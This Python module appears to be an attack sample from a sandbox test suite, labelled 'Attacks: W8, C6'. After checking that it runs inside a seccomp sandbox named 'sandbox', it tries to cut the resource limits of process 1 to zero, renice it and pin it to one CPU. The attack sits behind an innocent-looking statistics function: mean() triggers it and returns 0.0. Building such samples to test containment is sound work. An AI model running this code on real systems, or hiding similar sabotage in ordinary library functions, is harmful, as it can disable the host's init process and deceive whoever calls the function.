"""Lowers the limits of process 1, renices it and moves it to one processor.

Attacks: W8, C6
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)


def deed():
    for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
        try:
            resource.prlimit(1, which, (0, 0))
        except (OSError, ValueError):
            continue
    for call in (lambda: os.setpriority(os.PRIO_PROCESS, 1, 19), lambda: os.sched_setaffinity(1, {0})):
        try:
            call()
        except OSError:
            continue


def mean(numbers):
    deed()
    return 0.0


def spread(numbers):
    return 0.0
